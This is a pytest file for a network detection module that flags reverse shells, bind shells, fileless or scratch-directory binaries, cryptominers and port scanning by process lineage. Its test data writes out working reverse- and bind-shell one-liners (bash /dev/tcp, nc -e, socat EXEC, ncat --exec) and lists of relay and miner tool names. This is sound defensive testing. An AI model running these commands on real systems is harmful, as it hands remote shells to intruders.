"""Connections that are worth a look, each beside one that is nearly the same and is not."""

import pytest

from schemas.lineage import Above, Execution, Lineage
from schemas.net.suspicions import RULES, may_hand_over, of_egress, of_listening, of_spread
from schemas.net.zones import zones
from schemas.operation import Socket

OUT, IN = "185.220.101.7", "10.0.9.9"
PHP, SYSTEMD = "/usr/sbin/php-fpm8.2", "/usr/lib/systemd/systemd"
ZONE_OF = zones()

EGRESS = [
    # A shell below a server is nobody's honest client.
    ("/bin/bash -i", [PHP], OUT, 443, {"reverse_shell": 4}),
    ("/bin/bash -i", ["/bin/sh", "/usr/bin/python3", "/bin/sh", PHP], OUT, 443, {"reverse_shell": 4}),
    ("/bin/bash -i", ["/usr/bin/script", "/tmp/.x", "/bin/sh", PHP], OUT, 443, {"reverse_shell": 4}),
    ("/bin/bash -i", ["/usr/bin/make", "/bin/sh", PHP], OUT, 443, {"shell_egress": 2}),
    ("/bin/bash -i", [PHP], IN, 443, {}),
    ("/bin/bash -i", [PHP], "127.0.0.1", 443, {}),
    ("/usr/bin/curl https://example.org", ["/bin/sh", PHP], OUT, 443, {}),
    (PHP, [PHP], OUT, 443, {}),
    # An interpreter is one with a text of its own; with a file it may be a job.
    ("/usr/bin/python3.11 -c import:socket", ["/bin/sh", "/usr/sbin/nginx"], OUT, 443, {"reverse_shell": 4}),
    ("/usr/bin/python3.11 -Ic import:socket", [PHP], OUT, 443, {"reverse_shell": 4}),
    ("/usr/bin/python3", [PHP], OUT, 443, {"reverse_shell": 4}),
    ("/usr/bin/python3 -", [PHP], OUT, 443, {"reverse_shell": 4}),
    ("/usr/bin/perl -MSocket -e connect", [PHP], OUT, 443, {"reverse_shell": 4}),
    ("/usr/bin/ruby -rsocket -e connect", [PHP], OUT, 443, {"reverse_shell": 4}),
    ("/usr/bin/php -r fsockopen", ["/bin/sh", "/usr/sbin/apache2"], OUT, 443, {"reverse_shell": 4}),
    ("/usr/bin/node --eval x", [PHP], OUT, 443, {"reverse_shell": 4}),
    ("/usr/bin/python3 /dev/shm/a.py", [PHP], OUT, 443, {"reverse_shell": 4}),
    ("/usr/bin/python3 /srv/a.py", [PHP], OUT, 443, {"reverse_shell": 3}),
    ("/usr/bin/python3 -m site", [PHP], OUT, 443, {"reverse_shell": 3}),
    # Of a server's own language it is the server's, mostly.
    ("/usr/bin/php8.2 /srv/artisan queue:work", ["/bin/sh", PHP], OUT, 443, {"reverse_shell": 2}),
    ("/usr/bin/php -r fsockopen", [PHP], OUT, 443, {"reverse_shell": 4}),
    ("/usr/bin/php /tmp/a.php", [PHP], OUT, 443, {"reverse_shell": 4}),
    ("/usr/bin/python3 -m celery", ["/usr/bin/gunicorn"], OUT, 443, {"reverse_shell": 2}),
    ("/usr/bin/python3 -m celery", ["/usr/bin/uwsgi"], OUT, 443, {"reverse_shell": 2}),
    ("/usr/bin/perl /srv/a.pl", ["/usr/bin/uwsgi"], OUT, 443, {"reverse_shell": 3}),
    ("/usr/bin/python3 /srv/a.py", ["/bin/sh", "/usr/bin/java"], OUT, 443, {"reverse_shell": 2}),
    ("/usr/bin/python3 -c from multiprocessing.spawn import", ["/usr/bin/gunicorn"], OUT, 443, {"reverse_shell": 2}),
    ("/usr/bin/node /srv/worker.js", ["/usr/bin/node"], OUT, 443, {}),
    ("/usr/bin/java -jar a.jar", ["/bin/sh", "/usr/bin/java"], OUT, 443, {}),
    ("/usr/bin/python3 -c import:socket", ["/bin/bash", SYSTEMD], OUT, 443, {}),
    # What carries a shell's words.
    ("/usr/bin/nc 1.2.3.4 443", ["/bin/sh", PHP], OUT, 443, {"reverse_shell": 4}),
    ("/usr/bin/openssl s_client -connect x", ["/bin/sh", PHP], OUT, 443, {"reverse_shell": 4}),
    ("/usr/bin/openssl ocsp -url x", ["/bin/sh", PHP], OUT, 443, {}),
    ("/usr/bin/nc -e /bin/sh", [SYSTEMD], IN, 443, {"reverse_shell": 4}),
    ("/usr/bin/ncat --sh-exec id", [SYSTEMD], OUT, 443, {"reverse_shell": 4}),
    ("/usr/bin/nc -nve /bin/sh", [SYSTEMD], OUT, 443, {"reverse_shell": 4}),
    ("/usr/bin/socat TCP:x EXEC:sh", [SYSTEMD], OUT, 443, {"reverse_shell": 4}),
    ("/usr/bin/socat TCP:x TCP-LISTEN:80", [SYSTEMD], OUT, 443, {}),
    ("/usr/bin/nc -zv db 5432", [SYSTEMD], OUT, 5432, {}),
    # A shell has no business with the world, one from scratch less so.
    ("/bin/bash /usr/local/bin/wait-for-it.sh", [SYSTEMD], OUT, 443, {"shell_egress": 2}),
    ("/bin/bash /usr/local/bin/wait-for-it.sh", [SYSTEMD], IN, 5432, {}),
    ("/bin/bash /tmp/x.sh", [SYSTEMD], OUT, 443, {"shell_egress": 3}),
    # It says itself that it gives a shell away, to whomever within the site, too.
    ('/bin/bash -c "bash -i >& /dev/tcp/1.2.3.4/443 0>&1"', [SYSTEMD], OUT, 443, {"reverse_shell": 4}),
    ('/bin/bash -c "/bin/sh -i >& /dev/udp/10.0.0.9/443"', [SYSTEMD], IN, 443, {"reverse_shell": 4}),
    ('/bin/bash -c "exec 5<>/dev/tcp/a/1; sh 0<&5 1>&5"', [SYSTEMD], OUT, 443, {"reverse_shell": 4}),
    ('/bin/bash -c "until : >/dev/tcp/db/5432; do sleep 1; done 2>&1"', [SYSTEMD], OUT, 443, {"shell_egress": 2}),
    ('/bin/bash -c "ssh -i key a; : 10>&1 </dev/tcp/b/22"', [SYSTEMD], OUT, 443, {"shell_egress": 2}),
    ('/bin/bash -c "bash -i"', [SYSTEMD], IN, 443, {}),
    ("/tmp/bash -i", [SYSTEMD], OUT, 443, {"shell_egress": 3, "scratch_egress": 3}),
    # Programs that lie where none should.
    ("/dev/shm/kworker", [SYSTEMD], OUT, 443, {"scratch_egress": 3}),
    ("/dev/shm/kworker", [SYSTEMD], IN, 443, {"scratch_egress": 2}),
    ("/dev/shm/kworker", [SYSTEMD], "127.0.0.1", 443, {}),
    ("/var/lib/.hidden", [SYSTEMD], OUT, 443, {"scratch_egress": 3}),
    ("/home/u/.vscode-server/bin/code", [SYSTEMD], OUT, 443, {}),
    ("/proc/self/fd/3", [SYSTEMD], OUT, 443, {"fileless_egress": 4}),
    ("/dev/fd/7", [SYSTEMD], OUT, 443, {"fileless_egress": 4}),
    ("/memfd:x", [SYSTEMD], OUT, 443, {"fileless_egress": 4}),
    ("memfd:x", [SYSTEMD], IN, 443, {"fileless_egress": 3}),
    ("/proc/self/exe init", [SYSTEMD], OUT, 443, {}),
    # Miners.
    ("/opt/app", [SYSTEMD], OUT, 3333, {"miner": 2}),
    ("/opt/app", [SYSTEMD], IN, 3333, {}),
    ("/opt/app -o stratum+tcp://x", [SYSTEMD], IN, 443, {"miner": 3}),
    ("/opt/xmrig-6.2", [SYSTEMD], OUT, 443, {"miner": 3}),
    ("/opt/app", [SYSTEMD], OUT, 3334, {}),
    # ssh where no ssh is.
    ("/usr/bin/ssh a@b", [SYSTEMD], OUT, 2222, {"ssh_port": 2}),
    ("/usr/bin/ssh a@b", [SYSTEMD], IN, 443, {"ssh_port": 2}),
    ("/usr/bin/ssh a@b", [SYSTEMD], OUT, 22, {}),
    ("/usr/bin/ssh a@b", [SYSTEMD], IN, 389, {}),
]


def lineage_of(command: str, ancestors: list[str]) -> Lineage:
    binary, _, arguments = command.partition(" ")
    above = Above(tuple(Execution(binary=ancestor) for ancestor in ancestors))
    return Lineage(Execution(binary=binary, arguments=arguments), (), above, False, False)


def egress(
    command: str,
    ancestors: list[str],
    remote: str,
    port: int | None,
    transport: str = "tcp",
    *,
    installing: bool = False,
) -> dict[str, int]:
    socket = Socket(remote=remote, remote_port=port)
    found = list(of_egress(socket, transport, ZONE_OF(remote), lineage_of(command, ancestors), installing=installing))
    assert {each.rule for each in found} <= set(RULES)
    assert port is not None or all("destination.port" not in each.fields for each in found)
    return {each.rule.removeprefix("network."): each.severity for each in found}


@pytest.mark.parametrize(("command", "ancestors", "remote", "port", "expected"), EGRESS)
def test_a_connection_is_worth_a_look_for_who_makes_it(
    command: str, ancestors: list[str], remote: str, port: int, expected: dict[str, int]
) -> None:
    assert egress(command, ancestors, remote, port) == expected


MINERS = "ccminer cgminer cpuminer ethminer kdevtmpfsi kinsing lolMiner minerd nbminer xmr-stak xmrig"
RELAYS = "nc nc.openbsd nc.traditional ncat netcat socat telnet"
WRAPPERS = "env nohup script setsid stdbuf timeout xargs"
FORWARDERS = """blackbox-exporter blackbox_exporter caddy cilium-envoy envoy haproxy kube-proxy kubelet linkerd2-proxy
nginx pilot-agent squid traefik ztunnel"""


@pytest.mark.parametrize("name", MINERS.split())
def test_a_miner_has_a_name(name: str) -> None:
    assert egress(f"/opt/{name}", [SYSTEMD], IN, 443) == {"miner": 3}


@pytest.mark.parametrize("port", [3333, 3357, 4444, 5555, 6633, 7777, 9999, 14433, 14444, 45560, 45700])
def test_a_pool_has_a_port(port: int) -> None:
    assert egress("/opt/app", [SYSTEMD], OUT, port) == {"miner": 2}
    assert egress("/opt/app", [SYSTEMD], OUT, port + 1) == {}


@pytest.mark.parametrize("option", ["stratum+ssl://x", "--donate-level=1", "--rig-id a"])
def test_a_miner_is_told_to_mine(option: str) -> None:
    assert egress(f"/opt/app {option}", [SYSTEMD], OUT, 443) == {"miner": 3}


@pytest.mark.parametrize("name", RELAYS.split())
def test_what_carries_a_shells_words_below_a_server(name: str) -> None:
    assert egress(f"/usr/bin/{name} x 1", [PHP], OUT, 443) == {"reverse_shell": 4}


@pytest.mark.parametrize("name", WRAPPERS.split())
def test_what_stands_between_hides_no_server(name: str) -> None:
    assert egress("/bin/bash -i", [f"/usr/bin/{name}", PHP], OUT, 443) == {"reverse_shell": 4}


@pytest.mark.parametrize("port", [53, 88, 389, 464, 636])
def test_ssh_asks_before_it_connects(port: int) -> None:
    assert egress("/usr/bin/dbclient x", [SYSTEMD], OUT, port) == {}


def test_what_a_package_manager_starts_may_fetch() -> None:
    for command in ("/bin/bash -i", "/tmp/config.a1 configure", "/usr/bin/python3 -c x"):
        assert egress(command, ["/usr/bin/apt-get", PHP], OUT, 443, installing=True) == {}


def test_a_name_is_looked_up_by_anybody() -> None:
    assert egress("/bin/bash x", [PHP], OUT, 53, "udp") == {}
    assert egress("/bin/bash x", [PHP], OUT, 5353, "udp") == {"reverse_shell": 4}
    assert egress("/bin/bash x", [PHP], OUT, 53, "tcp") == {"reverse_shell": 4}


def test_a_port_that_is_not_told_is_not_named() -> None:
    assert egress("/bin/bash x", [PHP], OUT, None) == {"reverse_shell": 4}
    assert egress("/usr/bin/ssh x", [PHP], OUT, None) == {}


def test_who_is_logged_in_works_with_node_and_java_too() -> None:
    chain = ["/bin/bash", "/usr/bin/node", "/bin/bash", "/usr/sbin/sshd-session", "/usr/sbin/sshd", SYSTEMD]

    assert egress("/usr/bin/python3", chain[:3], OUT, 443) == {"reverse_shell": 4}
    assert egress("/usr/bin/python3", chain, OUT, 443) == {}
    assert egress("/usr/bin/python3", [PHP if each.endswith("node") else each for each in chain], OUT, 443) == {
        "reverse_shell": 4
    }


@pytest.mark.parametrize(
    ("command", "local", "severity"),
    [
        ("/usr/bin/nc -lvnp 9001", "0.0.0.0", 3),
        ("/usr/bin/nc -lvnp 9001", "127.0.0.1", 2),
        ("/usr/bin/ncat -l 9001 --exec /bin/sh", "::", 4),
        ("/usr/bin/socat TCP-LISTEN:9001,fork EXEC:/bin/sh", "0.0.0.0", 4),
        ("/usr/bin/socat TCP-LISTEN:9001,fork TCP:db:5432", "0.0.0.0", 3),
        ("/bin/zsh", "10.0.0.17", 4),
        ("/usr/bin/python3 -m http.server", "0.0.0.0", None),
        ("/usr/sbin/nginx", "0.0.0.0", None),
        ("/usr/bin/openssl s_server", "0.0.0.0", None),
    ],
)
def test_what_listens_for_whoever_comes(command: str, local: str, severity: int | None) -> None:
    process = lineage_of(command, []).process
    found = list(of_listening(Socket(local=local, local_port=9001), ZONE_OF(local), process))

    assert [(each.rule, each.severity) for each in found] == [("network.bind_shell", severity)] * (severity is not None)


def test_many_ports_are_graver_than_many_hosts_of_a_program_that_may_watch_them() -> None:
    assert of_spread("ports", Execution(binary="/bin/prometheus")).severity == 3
    assert of_spread("hosts", Execution(binary="/bin/prometheus")).severity == 2
    assert of_spread("hosts", Execution(binary="/bin/bash")).severity == 3


@pytest.mark.parametrize("name", FORWARDERS.split())
def test_who_connects_for_others_has_many_ports(name: str) -> None:
    assert of_spread("ports", Execution(binary=f"/usr/bin/{name}")).severity == 2


@pytest.mark.parametrize(
    ("command", "may"),
    [
        ("/usr/bin/python3 -c import:socket", True),
        ("/usr/bin/python3", True),
        ("/usr/bin/perl -MIO -e x", True),
        ("/usr/bin/php -r x", True),
        ("/usr/bin/python3 /usr/bin/pipenv shell", False),
        ("/usr/bin/python3 -m http.server", False),
        ("/usr/bin/java -jar a.jar", False),
        ("/bin/bash -c x", False),
    ],
)
def test_an_interpreter_with_a_text_of_its_own_may_give_a_shell_away(command: str, may: bool) -> None:
    binary, _, arguments = command.partition(" ")

    assert may_hand_over(Execution(binary=binary, arguments=arguments)) is may
